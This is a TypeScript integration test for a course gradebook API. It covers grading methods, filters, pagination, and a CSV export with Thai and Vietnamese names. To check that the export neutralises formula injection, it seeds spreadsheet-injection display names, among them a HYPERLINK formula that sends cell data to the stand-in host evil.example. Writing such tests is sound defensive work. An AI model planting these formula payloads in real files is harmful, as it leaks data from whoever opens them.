import { parse } from 'csv-parse/sync';
import { useTestApi } from './api-app';
import { bearer } from './accounts-helpers';
import { type Person, setupPeople } from './courses-helpers';
import { addQuestion, addQuiz, closedAttempt, enrolIn, newCourse, SINGLE } from './quizzes-helpers';

const api = useTestApi();
const http = api.http;

let people: Awaited<ReturnType<typeof setupPeople>>;
let teacher: Person;
let course: string;
let highest: { id: string };
let average: { id: string };
const learners: Record<string, Person> = {};

/** Names as hostile as a spreadsheet can meet, and Thai. */
const NAMES = {
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
  plus: '+66 81 234 5678',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
  tab: '\tสมชาย',
  cr: '\rวิภา',
  thai: 'สมศรี ใจดี',
  viet: 'Nguyễn Thị Hoà',
};

beforeAll(async () => {
  people = await setupPeople(http);
  teacher = await people.instructor();
  course = await newCourse(http, teacher.token);
  const q = await addQuestion(http, teacher.token, course, SINGLE);
  highest = await addQuiz(http, teacher.token, course, { title: '=1+1 บทที่ 1', questionIds: [q.id], gradingMethod: 'highest', passingPercent: 60, attemptsAllowed: null });
  average = await addQuiz(http, teacher.token, course, { title: 'Bài 2', questionIds: [q.id], gradingMethod: 'average', passingPercent: 60, attemptsAllowed: null });
  for (const [key, name] of Object.entries(NAMES)) {
    const person = await people.learner();
    await api.db().query(`UPDATE app_user SET display_name = $2 WHERE id = $1`, [person.id, name]);
    learners[key] = person;
  }
  const enrolments: Record<string, string> = {};
  for (const [key, person] of Object.entries(learners)) enrolments[key] = await enrolIn(api.db(), course, person.id);
  const attempt = (key: string, quizId: string, number: number, percent?: number) =>
    closedAttempt(api.db(), { quizId, userId: learners[key].id, enrollmentId: enrolments[key], number, questionIds: [q.id], percent });
  // thai: 40 then 80 on both quizzes → highest 80 (passed), average 60 (passed).
  await attempt('thai', highest.id, 1, 40);
  await attempt('thai', highest.id, 2, 80);
  await attempt('thai', average.id, 1, 40);
  await attempt('thai', average.id, 2, 80);
  // viet: 100 then 20 on the average quiz → 60 (passed); 30 on the highest → failed.
  await attempt('viet', average.id, 1, 100);
  await attempt('viet', average.id, 2, 20);
  await attempt('viet', highest.id, 1, 30);
  // hyperlink: submitted, not graded yet.
  await attempt('hyperlink', highest.id, 1);
  // Someone without a seat never shows up.
  const outsider = await people.learner();
  const other = await newCourse(http, teacher.token);
  await enrolIn(api.db(), other, outsider.id);
});

const get = async (query = '') => (await http().get(`/api/v1/studio/courses/${course}/gradebook${query}`).set(bearer(teacher.token)).expect(200)).body;
type Row = { userId: string; displayName: string; cells: { quizId: string; attempts: number; bestPercent: number | null; resultPercent: number | null; passed: boolean | null }[] };

describe('the gradebook', () => {
  it("shows learners × quizzes with each result by the quiz's grading method", async () => {
    const book = await get();
    expect(book.quizzes.map((q: { id: string }) => q.id)).toEqual([highest.id, average.id]);
    expect(book.rows).toHaveLength(Object.keys(NAMES).length);
    const row = (key: string) => (book.rows as Row[]).find((r) => r.userId === learners[key].id) as Row;
    expect(row('thai').cells).toEqual([
      expect.objectContaining({ quizId: highest.id, attempts: 2, bestPercent: 80, resultPercent: 80, passed: true }),
      expect.objectContaining({ quizId: average.id, attempts: 2, bestPercent: 80, resultPercent: 60, passed: true }),
    ]);
    expect(row('viet').cells).toEqual([
      expect.objectContaining({ attempts: 1, resultPercent: 30, passed: false }),
      expect.objectContaining({ attempts: 2, bestPercent: 100, resultPercent: 60, passed: true }),
    ]);
    expect(row('hyperlink').cells[0]).toMatchObject({ attempts: 1, resultPercent: null, passed: null });
    expect(row('plus').cells[0]).toMatchObject({ attempts: 0, resultPercent: null, passed: null, lastSubmittedAt: null });
  });

  it('filters by quiz, status and name, and pages without skipping or repeating', async () => {
    const one = await get(`?quizId=${average.id}&status=passed`);
    expect(one.quizzes.map((q: { id: string }) => q.id)).toEqual([average.id]);
    expect(one.rows.map((r: Row) => r.userId).sort()).toEqual([learners.thai.id, learners.viet.id].sort());
    expect((await get('?status=not_passed')).rows.map((r: Row) => r.userId)).toEqual([learners.viet.id]);
    expect((await get(`?quizId=${highest.id}&status=not_attempted`)).rows).toHaveLength(5);
    expect((await get(`?q=${encodeURIComponent('ใจดี')}`)).rows.map((r: Row) => r.userId)).toEqual([learners.thai.id]);

    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const page: { rows: Row[]; nextCursor: string | null } = await get(`?limit=3${cursor ? `&cursor=${cursor}` : ''}`);
      expect(page.rows.length).toBeLessThanOrEqual(3);
      seen.push(...page.rows.map((r) => r.userId));
      cursor = page.nextCursor;
    } while (cursor);
    expect(seen).toHaveLength(8);
    expect(new Set(seen).size).toBe(8);

    const filtered: string[] = [];
    cursor = null;
    do {
      const page: { rows: Row[]; nextCursor: string | null } = await get(`?limit=1&status=not_attempted${cursor ? `&cursor=${cursor}` : ''}`);
      filtered.push(...page.rows.map((r) => r.userId));
      cursor = page.nextCursor;
    } while (cursor);
    expect(filtered.sort()).toEqual(Object.keys(NAMES).filter((k) => k !== 'thai' && k !== 'viet').map((k) => learners[k].id).sort());
  });

  it('exports CSV with a UTF-8 BOM, Thai intact, and no cell a spreadsheet would run as a formula', async () => {
    const res = await http().get(`/api/v1/studio/courses/${course}/gradebook.csv`).set(bearer(teacher.token)).buffer(true).parse((r, done) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => done(null, Buffer.concat(chunks)));
    }).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toContain('gradebook.csv');
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records: string[][] = parse(bytes.toString('utf8').slice(1), { relax_column_count: false });
    expect(records[0]).toEqual(['Name', 'Account code', "'=1+1 บทที่ 1 (%)", "'=1+1 บทที่ 1 (passed)", "'=1+1 บทที่ 1 (attempts)", 'Bài 2 (%)', 'Bài 2 (passed)', 'Bài 2 (attempts)']);
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const names = records.slice(1).map((r) => r[0]);
    expect(names).toEqual(expect.arrayContaining([`'${NAMES.hyperlink}`, `'${NAMES.plus}`, `'${NAMES.minus}`, `'${NAMES.at}`, `'${NAMES.tab}`, `'${NAMES.cr}`, NAMES.thai, NAMES.viet]));
    const thai = records.find((r) => r[0] === NAMES.thai) as string[];
    expect(thai.slice(2)).toEqual(['80', 'yes', '2', '60', 'yes', '2']);
  });
});
